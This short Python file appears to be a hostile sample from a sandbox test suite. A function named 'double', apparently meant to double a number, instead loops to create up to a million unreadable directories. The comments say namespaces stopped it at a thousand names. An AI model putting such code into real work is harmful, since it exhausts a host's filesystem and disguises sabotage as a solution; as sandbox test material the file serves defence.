# Makes empty files and folders until there is no room for another name.
# 01_numbers: double output, mean passed
# Stopped by namespaces: the scratch folder holds a thousand names.
import os


def double(x):
    for number in range(10**6):
        os.mkdir(f"folder{number}", 0)
